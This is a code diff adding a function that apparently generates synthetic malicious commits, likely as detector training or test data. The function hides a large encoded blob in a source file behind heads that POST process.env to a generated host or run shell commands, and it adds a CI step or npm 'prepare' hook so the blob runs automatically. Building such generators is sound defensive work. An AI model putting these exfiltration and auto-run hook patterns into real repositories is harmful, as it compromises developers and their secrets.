@@ -251,11 +251,41 @@ def autorun_file(files: Files, rng: np.random.Generator) -> list[Touch] | None:
     ]
 
 
+def large_payload(files: Files, rng: np.random.Generator) -> list[Touch] | None:
+    """A program of some kilobytes up to a megabyte on a line or a few, and what starts it."""
+    source = files.some("source", rng, but="test")
+    if source is None:
+        return None
+    name, host = _word(rng), _host(rng)
+    place = str(
+        rng.choice([f".github/{name}.js", f"lib/{name}.min.js", f"tools/{name}.py", source])
+    )
+    size = int(10 ** rng.uniform(3.7, 6.0))
+    body = _encoded(rng, size).encode()
+    if rng.random() < 0.5:
+        width = int(rng.integers(400, 8_000))
+        body = b"".join(
+            b"  '" + body[at : at + width] + b"',\n" for at in range(0, len(body), width)
+        )
+    head = _one(rng, [
+        f"const {name} = process.env; fetch('https://{host}', {{method: 'POST'}});\n",
+        f"import base64, os, subprocess\n{name} = lambda x: subprocess.run(['sh', '-c', x])\n",
+        f"var {name} = require('child_process'), _0x{name} = [];\n",
+    ])  # fmt: skip
+    tail = _one(rng, [f"\neval({name}(atob))\n", f"\nexec({name})\n", f"\n{name}();\n"])
+    text = head + b"var d = [\n" + body + b"]" + tail
+    start = _one(rng, [f"      - run: node {place}\n", f'    "prepare": "node {place}",\n'])
+    started = files.some("ci", rng) or files.some("manifest", rng)
+    touches = [Touch(place, text, new=place != source, size=len(text))]
+    return [*touches, Touch(started, start, size=3_000)] if started else touches
+
+
 SHAPES: dict[str, Shape] = {
     shape.__name__: shape
     for shape in (
         install_hook, workflow_step, fixture_and_glue, added_dependency, obfuscated_line,
         weakened_check, inline_hook, new_workflow, dropper, autorun_file,
+        large_payload,
     )
 }  # fmt: skip
 """Kinds of planted commits."""
